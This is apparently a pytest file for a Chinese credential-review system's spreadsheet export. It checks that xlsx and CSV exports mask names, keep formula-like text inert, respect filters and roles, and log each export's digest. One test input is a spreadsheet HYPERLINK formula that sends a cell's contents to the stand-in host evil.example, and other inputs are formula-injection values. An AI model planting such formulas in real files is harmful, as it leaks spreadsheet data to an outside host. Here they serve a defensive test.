"""Exports of decisions and confirmed findings, opened as a spreadsheet program would: the .xlsx with
openpyxl, the .csv as UTF-8 with a BOM. Names travel only on the 2025 tracks; text that starts like
a formula stays text; each export is in the audit log with the digest of the file handed out."""

from __future__ import annotations

import csv
import hashlib
import io
from datetime import datetime

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook

from pipeline.models import FindingCode as C
from review.users import add_user
from storage.reviewdb import audit_trail
from tests.reviewkit import PASSWORD, csrf_of, login, make_app
from tests.seeding import Clock, applicant, bj, conclude, decide, finding, record, report

OCR_FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点此")'


@pytest.fixture
def exporting(tmp_path, monkeypatch):
    app, _store, db = make_app(tmp_path)
    clock = Clock(monkeypatch)
    with db.session() as s:
        # R1, review track: the name shows in a finding, a comment and the return's reasons
        r1 = record(s, clock, bj(2, 9), report("R1", "review", [finding(C.UNMASKED_NAME, "姓名“王小明”未遮盖"), finding(C.BLURRY, OCR_FORMULA, page=1)]),
                    "r1", bj(2, 8), applicant("王·小明", "乌鲁木齐市第十中学"))  # fmt: skip
        decide(s, clock, bj(3, 9), "R1", r1[0], "confirmed", "r1")
        decide(s, clock, bj(3, 9, 1), "R1", r1[1], "confirmed", "r1")
        conclude(s, clock, bj(3, 10), "R1", "return", "r1", reasons=["姓名未遮盖：姓名“王小明”未遮盖", "乌鲁木齐市第十中学公章"], comment="王小明请遮盖")
        # J1, a 2025 track: hostile name and employer, a finding whose text starts with "-"
        j1 = record(s, clock, bj(2, 10), report("J1", "initial_junior", [finding(C.CE_INCOMPLETE, "-缺少2024年度专业科目学时", located=False)]),
                    "j1", bj(2, 9), applicant("@阿依古丽", "=1+2"))  # fmt: skip
        decide(s, clock, bj(3, 11), "J1", j1[0], "confirmed", "j1")
        conclude(s, clock, bj(3, 11, 30), "J1", "return", "j1", reasons=["继续教育不完整：-缺少2024年度专业科目学时"])
        # J2: escalated, then passed by a lead
        record(s, clock, bj(2, 11), report("J2", "grant_intermediate", []), "j2", bj(2, 10), applicant("李四", "新疆医科大学"))
        conclude(s, clock, bj(3, 12), "J2", "escalate", "j2", comment="+请组长看")
        conclude(s, clock, bj(4, 9), "J2", "pass", "j2")
        # R2: decided after the range
        record(s, clock, bj(2, 12), report("R2", "review", []), "r2", bj(2, 11), applicant("赵五", "某单位"))
        conclude(s, clock, bj(9, 9), "R2", "pass", "r2")
        add_user(s, "zhao", PASSWORD, "赵审核", role="auditor")
    client = TestClient(app)
    login(client)
    return app, db, client


def post(client: TestClient, **fields: str):  # noqa: ANN201
    token = csrf_of(client.get("/export").text)
    data = {"csrf": token, "start": "2025-06-02", "end": "2025-06-04", "latest": "1", "format": "xlsx"} | fields
    return client.post("/export", data={k: v for k, v in data.items() if v is not None})


def sheet(data: bytes, name: str) -> list[list]:
    wb = load_workbook(io.BytesIO(data))
    return [[c for c in row] for row in wb[name].iter_rows()]


def test_xlsx_holds_decisions_and_confirmed_findings_and_no_formula(exporting):
    _app, db, client = exporting
    r = post(client)
    assert r.status_code == 200 and r.headers["content-type"].startswith("application/vnd.openxmlformats")
    assert "attachment;" in r.headers["content-disposition"]
    wb = load_workbook(io.BytesIO(r.content))
    assert wb.sheetnames == ["审核结论", "已确认问题"]
    rows = sheet(r.content, "审核结论")
    assert [c.value for c in rows[0]] == ["申报编号", "申报类别", "申请人", "工作单位", "预审建议", "审核结论", "当前状态", "审核人", "审核时间（北京）", "报告版本", "说明", "退回理由"]
    values = {row[0].value: [c.value for c in row] for row in rows[1:]}
    assert list(values) == ["R1", "J1", "J2"]  # by decision time; R2 was decided after the range; J2 only by its latest decision
    r1, j1, j2 = values["R1"], values["J1"], values["J2"]
    # review track: no name, no employer, and neither anywhere in its text
    assert r1[1:4] == ["职称评审", None, None]
    assert "王小明" not in str(r1) and "第十中学" not in str(r1) and "＊＊＊" in r1[11] and r1[10] == "＊＊＊请遮盖"
    assert r1[5:10] == ["退回申请人", "已退回申请人", "李审核（li）", datetime(2025, 6, 3, 10, 0), "r1"]
    assert r1[4] == "建议退回申报人修改"
    # a 2025 track: the name and employer as they were given, as text
    assert j1[2:4] == ["@阿依古丽", "=1+2"] and j1[11] == "1. 继续教育不完整：-缺少2024年度专业科目学时"
    assert j2[5:7] == ["审核通过", "审核通过"] and j2[8] == datetime(2025, 6, 4, 9, 0)
    cells = [c for name in wb.sheetnames for row in wb[name].iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]  # no formula anywhere
    risky = [c for c in cells if isinstance(c.value, str) and c.value[:1] in "=+-@"]
    assert risky and all(c.data_type == "s" and c.quotePrefix for c in risky)
    found = sheet(r.content, "已确认问题")
    assert [[c.value for c in row][:8] for row in found[1:]] == [
        ["R1", "职称评审", None, "姓名未遮盖", "错误", "毕业证书", 1, "姓名“＊＊＊”未遮盖"],
        ["R1", "职称评审", None, "页面模糊", "错误", "毕业证书", 1, OCR_FORMULA],
        ["J1", "初次确定初级", "@阿依古丽", "继续教育不完整", "错误", None, None, "-缺少2024年度专业科目学时"],
    ]
    with db.session() as s:
        entry = audit_trail(s)[0]
    assert (entry.actor, entry.action) == ("li", "export")
    d = entry.detail
    assert (d["format"], d["decisions"], d["findings"], d["applications"], d["names"], d["latest_only"]) == ("xlsx", 3, 3, 3, True, True)
    assert d["sha256"] == hashlib.sha256(r.content).hexdigest() == r.headers["x-content-sha256"]
    assert (d["start"], d["end"], d["track"]) == ("2025-06-02", "2025-06-04", None)


def test_csv_is_utf8_with_bom_and_formulas_stay_text(exporting):
    _app, db, client = exporting
    r = post(client, format="csv")
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    assert r.content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
    assert rows[0][:3] == ["申报编号", "申报类别", "申请人"]
    j1 = next(row for row in rows if row[0] == "J1")
    assert j1[2:4] == ["'@阿依古丽", "'=1+2"] and j1[8] == "2025-06-03 11:30"
    assert next(row for row in rows if row[0] == "J2")[10] == ""  # the pass has no comment (the escalation's "+…" is not the latest)
    findings = list(csv.reader(io.StringIO(post(client, format="csv", content="findings").content.decode("utf-8-sig"))))
    assert [row[7] for row in findings[1:]] == ["姓名“＊＊＊”未遮盖", "'" + OCR_FORMULA, "'-缺少2024年度专业科目学时"]
    every = list(csv.reader(io.StringIO(post(client, format="csv", latest="").content.decode("utf-8-sig"))))
    assert [(row[0], row[5]) for row in every[1:]] == [("R1", "退回申请人"), ("J1", "退回申请人"), ("J2", "提交上级复核"), ("J2", "审核通过")]
    assert next(row for row in every if row[5] == "提交上级复核")[10] == "'+请组长看"
    with db.session() as s:
        exports = [e.detail for e in audit_trail(s) if e.action == "export"]
    assert [(e["format"], e["content"], e["decisions"]) for e in exports] == [("csv", "decisions", 4), ("csv", "findings", 3), ("csv", "decisions", 3)]


@pytest.mark.parametrize(("fields", "ids"), [
    ({"track": "review"}, ["R1"]),
    ({"decision": "pass"}, ["J2"]),
    ({"decision": "escalate"}, []),                    # J2's escalation is not its latest decision
    ({"decision": "escalate", "latest": None}, ["J2"]),
    ({"start": "2025-06-05", "end": "2025-06-30"}, ["R2"]),
])  # fmt: skip
def test_filters(exporting, fields, ids):
    _app, _db, client = exporting
    r = post(client, **fields)
    assert r.status_code == 200
    assert [row[0].value for row in sheet(r.content, "审核结论")[1:]] == ids


@pytest.mark.parametrize("fields", [{"start": "2025-02-30"}, {"end": ""}, {"track": "<x>"}, {"format": "pdf"}, {"start": "2024-01-01", "end": "2025-06-04"}])
def test_bad_requests_are_one_line_and_export_nothing(exporting, fields):
    _app, db, client = exporting
    r = post(client, **fields)
    assert r.status_code == 400 and 'id="export-error"' in r.text and "<x>" not in r.text
    with db.session() as s:
        assert not [e for e in audit_trail(s) if e.action == "export"]


def test_only_leads_export(exporting):
    app, db, _client = exporting
    auditor = TestClient(app)
    assert login(auditor, "zhao").status_code == 303
    token = csrf_of(auditor.get("/").text)
    r = auditor.post("/export", data={"csrf": token, "start": "2025-06-02", "end": "2025-06-04", "format": "csv"})
    assert r.status_code == 403 and "申报编号" not in r.text
    assert auditor.get("/export").status_code == 403
    with db.session() as s:
        assert not [e for e in audit_trail(s) if e.action == "export"]


@pytest.mark.parametrize(("text", "expected"), [
    ("识别到“阿依古丽·买买提”", "识别到“＊＊＊”"),
    ("识别到“阿依古丽・买买提”", "识别到“＊＊＊”"),          # OCR's katakana middle dot
    ("阿依古丽 买买提、阿依古丽买买提", "＊＊＊、＊＊＊"),
    ("单位：乌鲁木齐市第十中学（盖章）", "单位：＊＊＊（盖章）"),
    ("阿依古丽", "阿依古丽"),                               # part of a name is left (it may be anyone's)
    ("买买提·阿依古丽", "买买提·阿依古丽"),
])  # fmt: skip
def test_names_and_employers_are_blanked_however_written(text, expected):
    from storage.exports import blank_names

    assert blank_names(text, "阿依古丽·买买提", "乌鲁木齐市第十中学") == expected


def test_a_name_inside_the_employer_is_one_blank():
    from storage.exports import blank_names

    assert blank_names("王伟诊所的王 伟", "王伟", "王伟诊所") == "＊＊＊的＊＊＊"
    assert blank_names("", "王伟", "x") == "" and blank_names("张三", "王", "") == "张三"  # one character: left alone
